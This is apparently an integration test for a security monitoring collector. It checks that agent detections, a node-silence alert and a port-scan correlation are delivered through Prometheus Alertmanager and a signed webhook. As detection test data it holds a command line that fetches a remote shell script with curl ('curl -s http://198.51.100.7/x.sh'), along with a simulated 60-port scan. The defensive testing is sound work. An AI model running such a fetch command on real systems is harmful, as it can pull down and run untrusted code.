// Alert delivery end to end against a real Prometheus Alertmanager
// (/usr/bin/prometheus-alertmanager, Debian prometheus-alertmanager) started
// on loopback with clustering off, routing everything to a webhook receiver
// run by the test. A collector (Handler + Server on loopback, SQLite) gets
// agent batches over HTTP; its router sends to Alertmanager and to a direct
// webhook, its correlation engine runs the hpc-csirt pack and an absence rule.
#include "alerting/alertmanager.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>

#include "alerting/alert_router.h"
#include "alerting/correlation.h"
#include "alerting/webhook.h"
#include "http/handler.h"
#include "http/server.h"
#include "metrics.h"
#include "storage/sqlite_store.h"
#include "support/alertmanager.h"
#include "support/http_receiver.h"
#include "support/processes.h"
#include "support/sample_batch.h"
#include "vigie/protocol/codec.h"
#include "vigie/protocol/http_client.h"

namespace vigie::collector {
namespace {

using json = nlohmann::json;
using testing::AlertmanagerProcess;
using testing::kAlertmanager;
using testing::kSecondNs;
constexpr const char* kToken = "agent-token-node1";
constexpr const char* kPortScanId = "bc1ca010-513c-565d-88b9-9a0f92b1be43";
constexpr const char* kAgentRuleId = "0c3c8f5e-0000-4000-8000-000000000001";

// Alerts of Alertmanager's webhook notifications with `status` whose labels include `labels`.
std::vector<json> notified(const std::vector<testing::ReceivedRequest>& requests,
                           const std::map<std::string, std::string>& labels,
                           const std::string& status) {
  std::vector<json> out;
  for (const auto& request : requests) {
    if (request.target != "/alertmanager") continue;
    const json body = json::parse(request.body, nullptr, false);
    if (body.is_discarded()) continue;
    for (const json& alert : body.value("alerts", json::array())) {
      if (alert.value("status", "") != status) continue;
      bool all = true;
      for (const auto& [name, value] : labels)
        all = all && alert["labels"].value(name, std::string()) == value;
      if (all) out.push_back(alert);
    }
  }
  return out;
}

class AlertmanagerIntegration : public ::testing::Test {
 protected:
  AlertmanagerIntegration()
      : store_((dir_.path() / "collector.db").string()),
        alertmanager_(dir_.path(), receiver_.url()) {}

  void SetUp() override {
    ASSERT_TRUE(std::filesystem::exists(kAlertmanager))
        << kAlertmanager << " is missing: install Debian's prometheus-alertmanager "
        << "(deploy/install-deps.sh --test)";
    ASSERT_TRUE(integration::eventually([&] { return alertmanager_.get("/-/ready").status == 200; },
                                        std::chrono::seconds(30)))
        << "Alertmanager did not become ready:\n"
        << alertmanager_.log();

    config_.port = 0;
    config_.threads = 2;
    config_.agent_tokens = {{sha256(kToken), "site-a", "node1"}};
    handler_ = std::make_unique<Handler>(config_, store_, metrics_);

    AlertmanagerOptions am;
    am.urls = {alertmanager_.url()};
    am.resend_interval = std::chrono::seconds(2);
    am.initial_backoff = std::chrono::milliseconds(100);
    am.generator_url = "http://127.0.0.1:9800";
    alertmanager_client_ = std::make_unique<AlertmanagerClient>(am, &metrics_.registry());
    WebhookOptions hook;
    hook.url = receiver_.url() + "/vigie";
    hook.hmac_secret = "hook-secret";
    webhook_ = std::make_unique<WebhookSink>(hook, &metrics_.registry());
    router_ =
        std::make_unique<AlertRouter>(AlertRouterOptions{"site-a", Tlp::kAmber, 3600 * kSecondNs});
    router_->register_metrics(metrics_.registry());
    router_->add_sink(*alertmanager_client_);
    router_->add_sink(*webhook_);

    const auto thresholds = dir_.path() / "thresholds.yml";
    std::ofstream(thresholds) << "threshold_rules:\n"
                                 "  - alert: NodeSilent\n"
                                 "    metric: vigie_agent_last_seen_timestamp_seconds\n"
                                 "    absent: 4s\n"
                                 "    labels: {severity: critical}\n"
                                 "    annotations: {summary: \"{{ $labels.host }} is silent\"}\n";
    CorrelationOptions rules;
    rules.sources.rule_paths = {std::filesystem::path(VIGIE_SOURCE_DIR) / "rules/packs/hpc-csirt"};
    rules.sources.iocs = {{"mining-pools", std::filesystem::path(VIGIE_SOURCE_DIR) /
                                               "rules/packs/hpc-csirt/iocs/mining-pools.csv"}};
    rules.threshold_paths = {thresholds};
    rules.evaluation_interval = std::chrono::milliseconds(500);
    correlation_ =
        std::make_unique<CorrelationEngine>(rules, store_, *router_, &metrics_.registry());

    handler_->add_listener(*router_);
    handler_->add_listener(*correlation_);
    server_ = std::make_unique<Server>(config_, *handler_);
    server_->start();
  }

  void TearDown() override {
    if (server_) server_->stop();
  }

  // POSTs `batch` to the collector as an agent would.
  void ingest(const protocol::Batch& batch) {
    protocol::Endpoint endpoint;
    endpoint.host = "127.0.0.1";
    endpoint.port = std::to_string(server_->port());
    const auto response =
        protocol::send(endpoint, protocol::ingest_request(kToken, protocol::encode_batch(batch)),
                       std::chrono::seconds(10));
    ASSERT_EQ(response.status, 200) << response.error << response.body;
  }

  // A batch of the current time (Alertmanager would end an alert of 2023 at once).
  protocol::Batch batch_now(uint64_t sequence) {
    const uint64_t now = protocol::wall_clock_ns();
    return testing::sample_batch(sequence, "node1", now - 12 * kSecondNs);
  }

  bool wait(const std::function<bool(const std::vector<testing::ReceivedRequest>&)>& pred,
            std::chrono::seconds limit = std::chrono::seconds(60)) {
    return receiver_.wait_for(pred, limit);
  }

  std::string diagnostics() {
    std::string text = "requests received:\n";
    for (const auto& r : receiver_.requests()) text += r.target + " " + r.body + "\n";
    const auto stats = alertmanager_client_->stats();
    text += "alertmanager client: sent " + std::to_string(stats.sent_total) + ", failed " +
            std::to_string(stats.failed_total) + "\nAlertmanager log:\n" + alertmanager_.log();
    return text;
  }

  testing::TempDir dir_;
  testing::HttpReceiver receiver_;
  SqliteStore store_;
  AlertmanagerProcess alertmanager_;
  Config config_;
  Metrics metrics_;
  std::unique_ptr<Handler> handler_;
  std::unique_ptr<AlertmanagerClient> alertmanager_client_;
  std::unique_ptr<WebhookSink> webhook_;
  std::unique_ptr<AlertRouter> router_;
  std::unique_ptr<CorrelationEngine> correlation_;
  std::unique_ptr<Server> server_;
};

TEST_F(AlertmanagerIntegration, AgentAlertAbsenceAndCorrelationReachTheReceiver) {
  // 1. An agent's detection: Alertmanager notifies with our labels.
  ingest(batch_now(1));
  const std::map<std::string, std::string> agent_labels{
      {"rule_id", kAgentRuleId}, {"host", "node1"},
      {"site", "site-a"},        {"severity", "high"},
      {"tlp", "amber"},          {"alertname", "Download and execute with curl"}};
  ASSERT_TRUE(wait([&](const auto& r) { return !notified(r, agent_labels, "firing").empty(); }))
      << diagnostics();
  const json agent_alert = notified(receiver_.requests(), agent_labels, "firing").front();
  EXPECT_EQ(agent_alert["annotations"].value("command_line", ""),
            "curl -s http://198.51.100.7/x.sh");
  EXPECT_EQ(agent_alert["annotations"].value("job_id", ""), "42");
  EXPECT_EQ(agent_alert.value("generatorURL", ""),
            "http://127.0.0.1:9800/api/v1/alerts?host=node1");

  // Alertmanager holds it as active, under our fingerprint.
  const auto listed =
      alertmanager_.get("/api/v2/alerts?filter=rule_id%3D%22" + std::string(kAgentRuleId) + "%22");
  ASSERT_EQ(listed.status, 200) << listed.body;
  const json alerts = json::parse(listed.body);
  ASSERT_EQ(alerts.size(), 1u) << listed.body;
  EXPECT_EQ(alerts[0]["status"]["state"], "active");
  AlertNotification ours;
  ours.origin = "agent";
  ours.site = "site-a";
  ours.host = "node1";
  ours.alert = testing::sample_batch(1).alerts[0];
  EXPECT_EQ(alerts[0]["fingerprint"], label_fingerprint(alert_labels(ours)));

  // The direct webhook got it too, signed.
  ASSERT_TRUE(wait([](const auto& r) {
    return std::any_of(r.begin(), r.end(), [](const auto& q) { return q.target == "/vigie"; });
  })) << diagnostics();
  for (const auto& request : receiver_.requests()) {
    if (request.target != "/vigie") continue;
    EXPECT_EQ(request.headers.at("x-vigie-signature-256"),
              "sha256=" + hmac_sha256_hex("hook-secret", request.body));
    EXPECT_EQ(json::parse(request.body)["labels"]["rule_id"], kAgentRuleId);
    break;
  }

  // 2. Absence: node1 goes silent for 4 s -> NodeSilent fires; it sends again -> resolved.
  const std::map<std::string, std::string> silent{
      {"alertname", "NodeSilent"}, {"host", "node1"}, {"severity", "critical"}};
  ASSERT_TRUE(wait([&](const auto& r) { return !notified(r, silent, "firing").empty(); }))
      << diagnostics();
  EXPECT_EQ(
      notified(receiver_.requests(), silent, "firing").front()["annotations"].value("summary", ""),
      "node1 is silent");
  ingest(batch_now(2));
  ASSERT_TRUE(wait([&](const auto& r) { return !notified(r, silent, "resolved").empty(); }))
      << diagnostics();

  // 3. A correlation only the collector can see: a connect scan of 60 ports by one process.
  protocol::Batch scan = batch_now(3);
  scan.alerts.clear();
  scan.events.clear();
  const uint64_t now = protocol::wall_clock_ns();
  for (uint16_t port = 1; port <= 60; ++port) {
    protocol::Event e = testing::sample_event(now - 2 * kSecondNs + port, "node1",
                                              protocol::EventKind::kNetworkConnect);
    e.pid = 31337;
    auto& flow = std::get<protocol::NetworkConnect>(e.body);
    flow.destination_ip = "127.0.0.1";
    flow.destination_port = port;
    scan.events.push_back(e);
  }
  ingest(scan);
  const std::map<std::string, std::string> port_scan{
      {"rule_id", kPortScanId}, {"host", "node1"}, {"ProcessId", "31337"}, {"severity", "high"}};
  ASSERT_TRUE(wait([&](const auto& r) { return !notified(r, port_scan, "firing").empty(); }))
      << diagnostics();
  EXPECT_EQ(correlation_->stats().correlation_alerts_total, 1u);
  // Stored as the collector's own alert.
  bool stored = false;
  for (const StoredAlert& a : store_.alerts({0, "", 100}))
    stored = stored || (a.agent_id == "collector" && a.alert.rule_id == kPortScanId);
  EXPECT_TRUE(stored);

  const std::string exposition = metrics_.exposition();
  EXPECT_NE(exposition.find("vigie_collector_alertmanager_alerts_sent_total"), std::string::npos);
  EXPECT_EQ(alertmanager_client_->stats().dropped_total, 0u);
}

TEST(AlertmanagerRetry, UnreachableAlertmanagerIsRetriedThenServed) {
  ASSERT_TRUE(std::filesystem::exists(kAlertmanager)) << kAlertmanager << " is missing";
  // A client to a port where nothing listens yet: failures counted, then once
  // an Alertmanager is there, the kept alert arrives.
  const uint16_t port = integration::free_port();
  AlertmanagerOptions options;
  options.urls = {"http://127.0.0.1:" + std::to_string(port)};
  options.initial_backoff = std::chrono::milliseconds(100);
  options.max_backoff = std::chrono::milliseconds(500);
  options.resend_interval = std::chrono::seconds(1);
  AlertmanagerClient client(options);
  AlertNotification n;
  n.origin = "collector";
  n.site = "site-a";
  n.alert.rule_id = "threshold:Retried";
  n.alert.rule_title = "Retried";
  n.alert.level = "low";
  n.starts_ns = protocol::wall_clock_ns();
  n.fingerprint = label_fingerprint(alert_labels(n));
  client.deliver(n);
  ASSERT_TRUE(integration::eventually([&] { return client.stats().failed_total >= 2; },
                                      std::chrono::seconds(30)));
  EXPECT_EQ(client.stats().sent_total, 0u);

  testing::TempDir dir;
  testing::HttpReceiver sink;
  // An Alertmanager on that very port.
  const auto config = dir.path() / "am.yml";
  std::ofstream(config) << "route: {receiver: r, group_wait: 1s, group_interval: 1s}\n"
                           "receivers: [{name: r, webhook_configs: [{url: "
                        << sink.url() << "/alertmanager}]}]\n";
  const pid_t pid = integration::spawn(
      {kAlertmanager, "--config.file=" + config.string(), "--storage.path=" + dir.path().string(),
       "--web.listen-address=127.0.0.1:" + std::to_string(port), "--cluster.listen-address="},
      dir.path() / "am.log");
  struct Stop {
    pid_t pid;
    ~Stop() { integration::stop(pid); }
  } stop{pid};
  EXPECT_TRUE(sink.wait_for(
      [](const auto& r) {
        return !notified(r, {{"alertname", "Retried"}}, "firing").empty();
      },
      std::chrono::seconds(60)))
      << integration::read_file(dir.path() / "am.log");
  EXPECT_GE(client.stats().sent_total, 1u);
}

}  // namespace
}  // namespace vigie::collector
